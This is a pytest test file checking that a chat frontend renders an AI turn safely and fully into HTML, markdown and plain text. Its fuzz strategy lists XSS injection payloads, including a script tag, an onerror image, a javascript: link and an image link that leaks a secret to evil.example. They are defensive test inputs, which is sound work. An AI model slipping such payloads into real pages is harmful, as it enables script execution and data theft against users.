"""The final output of a cell."""

import re
from html.parser import HTMLParser

import pytest
from fuzz import examples
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from qwen_magic.document.footer import Outcome, TurnFacts
from qwen_magic.document.markdown import render_markdown
from qwen_magic.frontends.static import bundle, saved_style, turn_html

VOID = {"br", "hr", "img"}


class Reader(HTMLParser):
    """Checks that elements nest, and collects what a sanitizer asks about."""

    def __init__(self, source):
        super().__init__()
        self.stack, self.tags, self.attributes, self.styles, self.text = [], set(), set(), [], ""
        self.links = {"href": [], "src": []}
        self.feed(source)
        self.close()
        assert self.stack == []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.styles += [value for name, value in attrs if name == "style"]
        for name, value in attrs:
            if name in self.links:
                self.links[name].append(value)
        if tag not in VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag):
        assert self.stack.pop() == tag

    def handle_data(self, data):
        if "style" not in self.stack:
            self.text += data


def test_three_forms(finished):
    assert list(bundle(finished)) == ["text/html", "text/markdown", "text/plain"]


def test_html_is_self_contained(finished):
    html = bundle(finished)["text/html"]
    read = Reader(html)
    assert "script" not in read.tags
    assert "button" not in read.tags
    assert html.count("<style>") == 1
    assert re.findall(r'src="(?!data:image/png;base64,)', html) == []
    assert re.findall(r"url\(|@import", html) == []


def test_nothing_is_left_to_what_sanitizers_strip(finished):
    read = Reader(bundle(finished)["text/html"])
    assert "id" not in read.attributes
    assert not any(name.startswith(("data-", "on")) for name in read.attributes)
    assert {style.split(":")[0] for style in read.styles} <= {"padding", "text-align"}
    assert not any("var(" in style for style in read.styles)


def test_everything_is_there(finished):
    read = Reader(bundle(finished)["text/html"])
    for text in (
        "Thought for 14\u00a0s · 677\u00a0tokens",
        "a sieve up to 7919 is enough",
        "sum of the first 1000 primes",
        "[3] SampleVariance",
        "definition of population and sample variance",
        "squared deviation",
        "def primes(n):",
        "7919 3682.913 5489270.997431 5494765.763194195",
        "\\frac{1}{n}",
        "main, turn\u00a04 · answer\u00a02/3",
        "resp_9f3c1a7e",
    ):
        assert text in read.text
    assert "img" in read.tags


def test_all_is_folded_but_the_answer(finished):
    assert '<details class="qm-step" open' not in bundle(finished)["text/html"]


def test_the_answer_is_the_whole_render(finished, turns):
    sources = dict(enumerate(turns.SOURCES, 1))
    answer = render_markdown("".join(turns.ANSWER), sources.get)
    unpadded = bundle(finished)["text/html"].replace(' style="padding: 4px 0 12px 0"', "")
    assert answer in unpadded


def test_the_style_is_small_and_scoped():
    style = saved_style()
    assert len(style) <= 6000
    assert style.startswith(".qm-turn.qm-turn{")
    depth = 0
    for character in style[:-1]:
        depth += {"{": 1, "}": -1}.get(character, 0)
        assert depth > 0 or style.index("{") > 0
    assert style.count("{") == style.count("}")
    assert "qm-run" not in style


def test_markdown_keeps_the_answer_as_written(finished, turns):
    assert "".join(turns.ANSWER).strip("\n") in bundle(finished)["text/markdown"]


def test_markdown_keeps_the_rest_around_it(finished):
    text = bundle(finished)["text/markdown"]
    assert text.count("<details>") == text.count("</details>") == 5
    assert "- \\[1\\] [Variance](<https://en.wikipedia.org/wiki/Variance>) en.wikipedia.org" in text
    assert "*Figure: fig-001 (shown after the answer)*" in text
    assert "data:image" not in text


def test_plain_text_reads_from_top_to_bottom(finished):
    lines = bundle(finished)["text/plain"].split("\n")
    assert lines[0] == "Thought for 14 s · 677 tokens"
    assert lines[4] == "  figure: fig-001"
    assert lines[6].startswith("The population variance")
    assert "[1] Variance https://en.wikipedia.org/wiki/Variance" in lines
    assert lines[-2].endswith(" · main, turn 4 · answer 2/3")
    assert lines[-1].endswith(" · resp_9f3c1a7e")


@pytest.mark.parametrize(
    ("outcome", "words"),
    [
        (Outcome("stopped"), "Stopped after 19\u00a0s"),
        (Outcome("incomplete", limit=120), "Cut off at 120\u00a0output\u00a0tokens"),
        (Outcome("failed", "Too many requests", "limit", "Wait", "4f1c"), "Too many requests"),
    ],
)
def test_every_form_says_how_it_ended(turns, show, outcome, words):
    made = bundle(show(turns.research_events(), outcome=outcome, until=19.0))
    assert words in Reader(made["text/html"]).text
    assert words.replace("\u00a0", " ") in made["text/markdown"].replace("\u00a0", " ")
    assert words.replace("\u00a0", " ") in made["text/plain"]
    assert 'role="alert"' not in made["text/html"]


def test_while_it_runs_the_thinking_is_open(turns, show):
    html = turn_html(show(turns.research_events(), until=14.0))
    assert '<details class="qm-step" open><summary class="qm-head qm-is-live">' in html
    assert "a sieve up to 7919" in html
    Reader(html)


def test_before_anything_came_it_says_so(show):
    assert "Waiting for qwen3-max" in Reader(turn_html(show([]))).text


HOSTILE = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        [
            "</details></div><script>alert(1)</script>",
            "```\n</details>\n<img src=x onerror=alert(1)>",
            "[x](javascript:alert(1))",
            '"><iframe src=//a.org>',
            "![x](https://evil.example/?q=secret)",
        ]
    ),
)


@given(HOSTILE, HOSTILE)
@settings(
    max_examples=examples(60),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
def test_hostile_fields_stay_text(turns, show, one, two):
    search = {"type": "search", "queries": [one, two], "sources": [{"url": one}, {"url": two}]}
    events = [
        (1.0, turns.done("reasoning", "r", 0, summary=[{"text": one}])),
        (2.0, turns.done("web_search_call", "s", 1, action=search)),
        (3.0, turns.done("web_extractor_call", "x", 2, goal=one, urls=[two], output=one)),
        (4.0, turns.done("code_interpreter_call", "c", 3, code=one, outputs=[{"logs": two}])),
        (5.0, turns.done("function_call", "f", 4, name=one, arguments=two)),
        (6.0, turns.done("mcp_call", "m", 5, name=one, server_label=two, output=one, error=two)),
        (7.0, turns.done(one, "u", 6, value=two)),
        (8.0, turns.done("message", "a", 7, content=[{"type": "output_text", "text": one}])),
        (9.0, turns.ended(model=one, id=two)),
    ]
    html = bundle(show(events, outcome=Outcome("failed", one, two, one, two)))["text/html"]
    read = Reader(html)
    assert not read.tags & {"script", "iframe", "object", "form", "input", "video", "svg"}
    assert not any(name.startswith("on") for name in read.attributes)
    assert all(re.match(r"https?:|mailto:", link) for link in read.links["href"])
    assert read.links["src"] == []


def test_before_an_audience_it_is_larger_and_names_no_ids(turns, show):
    facts = TurnFacts("qwen3-max", "main", 4, request="previous_response_id resp_1", stage=True)
    plain = show(turns.research_events(), outcome=Outcome())
    staged = show(turns.research_events(), outcome=Outcome(), turn=facts)
    for form, text in bundle(plain).items():
        assert "9f3c1a7e" in text
        assert "9f3c1a7e" not in bundle(staged)[form]
    assert "qm-stage" not in turn_html(plain)
    assert 'class="qm-turn qm-saved qm-stage' in turn_html(staged)


def test_thinking_can_be_hidden(turns, show):
    facts = TurnFacts("qwen3-max", "main", 4, thoughts=False)
    for until in (3.0, 8.0, float("inf")):  # while it thinks, while it writes, at its end
        outcome = Outcome() if until > 20 else None
        hidden = show(turns.research_events(), outcome=outcome, until=until, turn=facts)
        for text in bundle(hidden).values():
            assert "a sieve up to 7919 is enough" not in text
            assert "Thought" not in text
    assert "Searched the web" in bundle(hidden)["text/html"]
